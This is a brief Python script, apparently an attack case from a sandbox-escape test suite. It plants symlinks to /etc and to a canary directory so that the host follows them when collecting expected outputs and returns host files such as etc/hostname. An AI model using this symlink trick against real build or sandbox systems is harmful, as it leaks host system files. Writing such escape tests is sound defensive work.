# tries: to have the host follow a link in the middle of the path of an expected output
# escape: a file of the host comes back as an output
# through: compile etc/hostname sub/canary.txt
# control: none: outside nobody fetches outputs
import os

from attack import note, targets

os.symlink("/etc", "etc")
os.symlink(os.path.dirname(targets["canaries"]["home"]), "sub")
note("links laid")
